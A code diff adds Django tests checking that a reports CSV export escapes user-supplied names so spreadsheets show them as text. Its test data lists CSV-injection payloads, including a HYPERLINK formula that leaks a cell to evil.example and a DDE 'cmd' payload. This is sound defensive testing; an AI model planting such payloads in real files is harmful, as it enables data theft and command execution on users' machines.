@@ -11,8 +11,9 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from accounts.models import User
 from conftest import host_client
-from inbox import reports, services
+from inbox import report_views, reports, services
 from inbox.models import Conversation
 from tenants.context import run_in_workspace
 from tenants.models import Membership
@@ -88,3 +89,43 @@ def test_bad_ranges_are_explained(client_a, query, message):
 def test_agents_do_not_see_reports(workspace_a, owner_b):
     Membership.objects.create(user=owner_b, workspace=workspace_a, role=Membership.Role.AGENT)
     assert host_client("alpha.localhost", owner_b).get("/reports/").status_code == 403
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)", "\tTab", "\rReturn"]  # fmt: skip
+
+
+def test_names_that_look_like_formulas_are_text_in_the_csv(client_a, workspace_a):
+    """An agent's display name and a website's name are the users' own text: a spreadsheet opening the
+    managers' CSV must show them, not run them; counts and seconds stay numbers."""
+    today = timezone.localdate()
+
+    def make():
+        now = timezone.now().replace(hour=12)
+        for i, name in enumerate(FORMULAS):
+            agent = User.objects.create_user(f"formula-{i}@example.com", "pw-irrelevant", display_name=name)
+            website, _ = services.website_create(workspace=workspace_a, name=name, allowed_origins="")
+            contact, _ = services.contact_for_visitor(website=website, token=None)
+            conversation = Conversation.objects.create(
+                website=website, contact=contact, assignee_id=agent.pk, last_message_at=now,
+                first_agent_reply_at=now + timedelta(minutes=2),
+            )  # fmt: skip
+            Conversation.objects.filter(pk=conversation.pk).update(created_at=now)
+
+    run_in_workspace(workspace_a.schema_name, make)
+    response = client_a.get(f"/reports/?start={today}&end={today}&format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    for name in FORMULAS:
+        assert ["agent", f"'{name}", "1", "120", ""] in rows
+        if name == name.strip():  # the website service strips its name's blanks
+            assert ["website", f"'{name}", "1", "120", ""] in rows
+    assert rows[1] == ["total", f"{today} to {today}", str(len(FORMULAS)), "120", ""]
+    # No cell of the file starts like a formula any more.
+    cells = [cell for line in rows for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_cells_keep_numbers_and_escape_text():
+    assert report_views.csv_cell(-5) == -5 and report_views.csv_cell(0) == 0
+    assert report_views.csv_cell("-5") == "'-5"  # text from a user, even if it reads as a number
+    assert report_views.csv_cell(None) == "" and report_views.csv_cell("Ana") == "Ana"
